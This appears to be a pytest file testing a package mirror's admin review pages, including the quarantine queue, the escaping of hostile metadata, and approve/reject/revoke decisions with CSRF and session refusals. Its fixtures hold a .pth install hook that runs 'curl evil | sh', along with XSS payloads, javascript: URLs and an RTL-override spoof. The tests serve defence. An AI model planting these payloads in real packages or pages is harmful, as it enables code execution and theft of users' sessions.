"""The review pages in-process: the queue, a file's detail page with hostile metadata,
and decisions (single, whole release, bulk) with their refusals. Files get into the
mirror the real way: a fake upstream on loopback and a real sync."""

from __future__ import annotations

import re
from datetime import UTC, datetime

import pytest

from mirror.db import Role, State
from mirror.sync import Syncer
from mirror.upstream import UpstreamClient
from tests.support.admin import AdminSite, csrf
from tests.support.builders import make_wheel

OLD = datetime(2025, 1, 1, tzinfo=UTC)
PTH = {"hooky/__init__.py": b"", "hooky.pth": b"import os; os.system('curl evil | sh')\n"}
MEGABYTE = "A" * 1_000_000
HOSTILE = (
    "Metadata-Version: 2.1\nName: evil\nVersion: 1.0\n"
    'Summary: <script>alert("x")</script> "><img src=x onerror=alert(1)>\n'
    "Home-page: javascript:alert(document.cookie)\n"
    "Project-URL: Docs, javascript:alert(2)\n"
    "Author: Mallory \u202egnp.exe\u202c\n"
    f"Keywords: {MEGABYTE}\n\n"
    "<script>alert('description')</script>\n"
)


@pytest.fixture
def site(tmp_path, fake_index):
    index = fake_index("json")
    build = tmp_path / "build"
    build.mkdir()
    index.add(make_wheel(build, "hooky", "1.0", files=PTH), upload_time=OLD)
    index.add(make_wheel(build, "hooky", "1.0", files=PTH, tag="py2.py3-none-any"), upload_time=OLD)
    index.add(make_wheel(build, "clean", "1.0"), upload_time=OLD)
    index.add(make_wheel(build, "evil", "1.0", metadata=HOSTILE), upload_time=OLD)
    site = AdminSite(
        tmp_path,
        upstream={"url": index.url},
        sync={"projects": ["hooky", "clean", "evil"], "python_versions": ["3.11"],
              "platforms": ["linux-x86_64"]},
        policy={"cooldown": "0"},
    )  # fmt: skip
    with UpstreamClient(index.url, timeout=5, retries=0) as upstream:
        Syncer(
            site.settings, site.db, site.storage, upstream, site.settings.policy.build(),
            clock=site.clock,
        ).run()  # fmt: skip
    site.user("rev", Role.REVIEWER)
    site.user("boss", Role.ADMIN)
    return site


def file_id(site, filename):
    return site.db.file_by_filename(filename).id


def test_queue_lists_held_files_with_why_and_counts(site):
    client = site.logged_in("rev")
    page = client.get("/admin/").text
    assert "hooky-1.0-py3-none-any.whl" in page and "hooky-1.0-py2.py3-none-any.whl" in page
    assert "clean-1.0" not in page  # approved by policy: not in the held queue
    assert '<span class="sev high">high</span>' in page
    assert "findings, new project" in page
    counts = re.findall(r"<strong>(\d+)</strong>(\w+)", page)
    assert ("1", "approved") in counts and ("3", "held") in counts
    approved = client.get("/admin/?state=approved").text
    assert "clean-1.0-py3-none-any.whl" in approved


def test_queue_filters_by_project_severity_check_and_search(site):
    client = site.logged_in("rev")
    assert "evil-1.0" not in client.get("/admin/?project=hooky").text
    by_check = client.get("/admin/?check=pth-import").text
    assert "hooky-1.0" in by_check and "evil-1.0" not in by_check
    assert "hooky" not in client.get("/admin/?q=evil").text.split("<tbody>")[1]
    assert client.get("/admin/?severity=bogus").status_code == 400


def test_hostile_metadata_renders_inert_and_readable(site):
    client = site.logged_in("rev")
    response = client.get(f"/admin/files/{file_id(site, 'evil-1.0-py3-none-any.whl')}")
    html = response.text
    assert response.status_code == 200
    assert "<script>alert" not in html and "<img src=x" not in html
    assert "&lt;script&gt;alert(&#34;x&#34;)&lt;/script&gt;" in html  # readable, escaped
    assert 'href="javascript:' not in html.lower() and "javascript:alert(document.cookie)" in html
    assert "\u202e" not in html
    assert '<span class="esc" title="hidden character">\\u202e</span>' in html
    assert len(html) < 400_000  # a megabyte field is cut, not embedded
    assert "show all 1,000,000 characters" in html
    raw = client.get(f"/admin/files/{file_id(site, 'evil-1.0-py3-none-any.whl')}/metadata")
    assert raw.content_type == "text/plain; charset=utf-8"
    assert raw.headers["X-Content-Type-Options"] == "nosniff"
    assert MEGABYTE in raw.text


def test_detail_page_shows_findings_members_and_fields(site):
    client = site.logged_in("rev")
    html = client.get(f"/admin/files/{file_id(site, 'hooky-1.0-py3-none-any.whl')}").text
    assert "pth-import" in html and "hooky.pth" in html
    assert "hooky/__init__.py" in html and "sha256=" in html  # the member list, RECORD hashes
    assert "Metadata-Version" in html and "No earlier release" in html


def decide(client, fid, action, reason="looked at it"):
    return client.post(
        f"/admin/files/{fid}/decide",
        data={"action": action, "reason": reason, "csrf_token": csrf(client)},
    )


def test_reject_and_approve_take_effect_on_the_index_at_once(site):
    client = site.logged_in("rev")
    evil = file_id(site, "evil-1.0-py3-none-any.whl")
    hooky = file_id(site, "hooky-1.0-py3-none-any.whl")
    assert decide(client, evil, "reject", "homoglyph author, script in summary").status_code == 303
    assert decide(client, hooky, "approve", "pth is the project's own").status_code == 303
    assert site.db.file_by_id(evil).state is State.REJECTED
    assert site.db.file_by_id(hooky).state is State.APPROVED
    index = site.client()
    assert "hooky-1.0-py3-none-any.whl" in index.get("/simple/hooky/").text
    assert index.get("/simple/evil/").status_code == 404
    last = site.db.decisions(hooky)[-1]
    assert (last["actor"], last["reason"]) == ("user:rev", "pth is the project's own")
    # Then revoke: gone from the index at once.
    assert decide(client, hooky, "revoke", "advisory").status_code == 303
    assert "hooky-1.0-py3-none-any.whl" not in index.get("/simple/hooky/").text


def test_a_decision_without_a_reason_changes_nothing(site):
    client = site.logged_in("rev")
    hooky = file_id(site, "hooky-1.0-py3-none-any.whl")
    before = len(site.db.decisions())
    assert decide(client, hooky, "approve", "   ").status_code == 400
    assert site.db.file_by_id(hooky).state is State.QUARANTINED
    assert len(site.db.decisions()) == before


def test_refusals_change_nothing(site):
    hooky = file_id(site, "hooky-1.0-py3-none-any.whl")
    before = len(site.db.decisions())
    anonymous = site.client()
    url = f"/admin/files/{hooky}/decide"
    assert anonymous.post(url, data={"action": "approve"}).status_code == 403
    rev = site.logged_in("rev")
    no_token = rev.post(f"/admin/files/{hooky}/decide", data={"action": "approve", "reason": "x"})
    assert no_token.status_code == 403
    forged = rev.post(
        f"/admin/files/{hooky}/decide",
        data={"action": "approve", "reason": "x", "csrf_token": "forged"},
    )
    assert forged.status_code == 403
    token = csrf(rev)
    site.accounts.set_disabled("rev", True, actor="test")
    disabled = rev.post(url, data={"action": "approve", "reason": "x", "csrf_token": token})
    assert disabled.status_code == 401 and "session has ended" in disabled.text
    boss = site.logged_in("boss")
    token = csrf(boss)
    site.clock.advance(hours=13)
    expired = boss.post(url, data={"action": "approve", "reason": "x", "csrf_token": token})
    assert expired.status_code == 401
    assert site.db.file_by_id(hooky).state is State.QUARANTINED
    assert len(site.db.decisions()) == before


def test_bulk_decisions_report_each_file(site):
    client = site.logged_in("rev")
    ids = [file_id(site, "hooky-1.0-py3-none-any.whl"), file_id(site, "evil-1.0-py3-none-any.whl")]
    response = client.post(
        "/admin/bulk",
        data={"action": "reject", "reason": "bulk", "file_id": [str(i) for i in ids],
              "csrf_token": csrf(client)},
        follow_redirects=True,
    )  # fmt: skip
    assert "Rejected hooky-1.0-py3-none-any.whl." in response.text
    assert all(site.db.file_by_id(i).state is State.REJECTED for i in ids)
    again = client.post(
        "/admin/bulk",
        data={"action": "reject", "reason": "bulk", "file_id": [str(ids[0])],
              "csrf_token": csrf(client)},
        follow_redirects=True,
    )  # fmt: skip
    assert "cannot reject hooky-1.0-py3-none-any.whl: it is rejected" in again.text


def test_approve_all_clean_files_of_a_release_skips_those_with_findings(site):
    client = site.logged_in("rev")
    hooky = file_id(site, "hooky-1.0-py3-none-any.whl")
    response = client.post(
        "/admin/releases/hooky/1.0/approve-clean",
        data={"reason": "release ok", "csrf_token": csrf(client), "back_to_file": str(hooky)},
        follow_redirects=True,
    )
    assert "No held file of this release is clean." in response.text
    assert site.db.file_by_id(hooky).state is State.QUARANTINED
